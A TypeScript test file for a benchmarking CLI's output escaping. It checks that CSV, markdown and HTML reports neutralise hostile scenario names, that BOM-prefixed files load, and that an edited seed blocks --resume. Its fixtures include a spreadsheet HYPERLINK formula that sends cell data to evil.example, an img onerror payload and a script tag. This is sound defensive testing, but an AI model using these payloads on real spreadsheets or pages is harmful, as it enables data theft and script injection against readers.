import { cp, mkdtemp, readFile, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { capture } from '../../support/capture-io.js';
import { runCli } from '../../../src/cli/main.js';
import { fakeWorld, recordedStarts } from '../../support/fake-engine.js';
import { toCsv } from '../../../src/export/csv.js';
import { compareMarkdown } from '../../../src/export/compare-markdown.js';
import { readResults } from '../../../src/results/read.js';
import { loadScenario } from '../../../src/scenario/load.js';
import { csvTextCell, markdownText } from '../../../src/core/neutralise.js';
import type { ResultsFile } from '../../../src/results/types.js';
import type { Comparison } from '../../../src/stats/compare.js';

/**
 * Data from a results file or a scenario never turns against the reader of an output: a formula in a
 * name is text in the CSVs, HTML in a name is not HTML in summary.md or compare's markdown; a file saved
 * with a byte-order mark is read; a plan edited by hand between an interrupt and --resume is refused.
 */
const REFERENCE = path.join(import.meta.dirname, '../../../results/reference/blog-trio.json');
const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"<img src=x onerror=alert(1)>|click")';

async function tmp(): Promise<string> {
  return mkdtemp(path.join(os.tmpdir(), 'ib-hostile-'));
}

async function hostileResults(): Promise<ResultsFile> {
  const r = JSON.parse(await readFile(REFERENCE, 'utf8')) as ResultsFile;
  const renamed = (name: string): string => (name === 'pingperf' ? HOSTILE : name);
  return {
    ...r,
    config: { ...r.config, scenarios: r.config.scenarios.map(renamed) },
    runs: r.runs.map((x) => ({ ...x, scenario: renamed(x.scenario) })),
    checkpoints: r.checkpoints.map((c) => ({ ...c, scenario: renamed(c.scenario) })),
  };
}

describe('outputs that data cannot turn against their readers', () => {
  it('a cell a spreadsheet would run as a formula is text: apostrophe first, quoted', () => {
    for (const lead of ['=', '+', '-', '@', '\t', '\r'])
      expect(csvTextCell(`${lead}1+1`)).toEqual({ value: `'${lead}1+1`, quoted: true });
    expect(csvTextCell('pingperf')).toBe('pingperf');
    expect(markdownText('a<b>|c\nd')).toBe('a&lt;b>\\|c d');
  });

  it('runs.csv, the CSV beside the results and summary.md hold a formula- and HTML-shaped scenario name as text', async () => {
    const dir = await tmp();
    const file = path.join(dir, 'hostile.json');
    const r = await hostileResults();
    // Saved with a byte-order mark, as some editors write: report reads it all the same.
    await writeFile(file, `\uFEFF${JSON.stringify(r)}`);
    const csvs = [toCsv(r.runs)];
    expect(await runCli(['report', file, '--out', path.join(dir, 'report')], capture(dir))).toBe(0);
    csvs.push(await readFile(path.join(dir, 'report', 'runs.csv'), 'utf8'));
    for (const csv of csvs) {
      const cells = csv.split('\n').filter((l) => l.includes('HYPERLINK'));
      expect(cells.length).toBe(r.runs.filter((x) => x.scenario === HOSTILE).length);
      expect(cells.length).toBeGreaterThan(0);
      // Every row starts the name with the apostrophe inside quotes; no cell starts with the bare formula.
      expect(cells.every((l) => l.includes(`"'=HYPERLINK(`))).toBe(true);
      expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    }
    const md = await readFile(path.join(dir, 'report', 'summary.md'), 'utf8');
    expect(md).toContain('HYPERLINK');
    expect(md).not.toContain('<img');
    expect(md).toContain('&lt;img');
    // Table rows keep their column count: the name's `|` is escaped.
    const row = md.split('\n').find((l) => l.startsWith('|') && l.includes('HYPERLINK'));
    const header = md.split('\n').find((l) => l.startsWith('| scenario'));
    expect(row && header).toBeTruthy();
    const columns = (l: string): number => l.replace(/\\\|/g, '').split('|').length;
    expect(columns(row as string)).toBe(columns(header as string));
    // The HTML report escapes it as it always has.
    expect(await readFile(path.join(dir, 'report', 'index.html'), 'utf8')).not.toContain('<img src=x');
  });

  it("compare's markdown escapes the names it tabulates", () => {
    const row = {
      scenario: HOSTILE,
      variant: 'cold',
      metric: 'readyMs',
      baseline: { median: 10, n: 5 },
      candidate: { median: 11, n: 5 },
      ratio: 1.1,
      ratioCi: { low: 1, high: 1.2 },
      pValue: 0.2,
      pAdjusted: 0.4,
      gating: true,
      verdict: 'inconclusive',
      note: '<script>x</script>',
    } as unknown as Comparison;
    const md = compareMarkdown([row], 5, ['<b>warning</b>']);
    expect(md).not.toMatch(/<(img|script|b)\b/);
    expect(md).toContain('&lt;script');
  });

  it('a results file and a scenario file saved with a byte-order mark are read; compare reads it', async () => {
    const dir = await tmp();
    const file = path.join(dir, 'bom.json');
    await writeFile(file, `\uFEFF${await readFile(REFERENCE, 'utf8')}`);
    expect((await readResults(file)).runs.length).toBeGreaterThan(0);
    const io = capture(dir);
    expect(await runCli(['compare', file, file, '--json', path.join(dir, 'c.json')], io)).toBe(0);
    const scenarioDir = path.join(dir, 'scn');
    await cp(path.join(import.meta.dirname, '../../../scenarios/pingperf'), scenarioDir, { recursive: true });
    const scenarioFile = path.join(scenarioDir, 'scenario.json');
    await writeFile(scenarioFile, `\uFEFF${await readFile(scenarioFile, 'utf8')}`);
    await expect(loadScenario(path.join(scenarioDir, 'scenario.json'), dir)).resolves.toBeTruthy();
  });

  it('--resume of a file whose seed was edited after the interrupt: exit 2 naming config.seed, the file unchanged', async () => {
    const dir = await tmp();
    const out = path.join(dir, 'r.json');
    expect(
      await runCli(
        ['run', '--scenario', 'pingperf', '--warmup', '0', '--runs', '2', '--out', out],
        capture(dir),
        fakeWorld(recordedStarts),
      ),
    ).toBe(0);
    const r = JSON.parse(await readFile(out, 'utf8')) as ResultsFile;
    expect(r.config.planDigest?.seed).toMatch(/^[0-9a-f]{16}$/);
    // As if Ctrl-C had come after three starts, then the seed edited by hand.
    const interrupted = { ...r, state: 'interrupted', runs: r.runs.slice(0, 3) };
    await writeFile(out, JSON.stringify(interrupted, null, 2));
    const unedited = capture(dir);
    // The untouched interrupted file resumes.
    expect(await runCli(['run', '--resume', out], unedited, fakeWorld(recordedStarts))).toBe(0);
    const edited = JSON.stringify({ ...interrupted, config: { ...interrupted.config, seed: r.config.seed + 1 } });
    await writeFile(out, edited);
    const io = capture(dir);
    expect(await runCli(['run', '--resume', out], io, fakeWorld(recordedStarts))).toBe(2);
    const message = io.lines.filter((l) => l.trim() !== '');
    expect(message.join('\n')).toMatch(/config\.seed: changed since the run planned it/);
    expect(message.join('\n')).not.toMatch(/\bat .*\.ts:\d+/);
    expect(await readFile(out, 'utf8')).toBe(edited);
  });
});
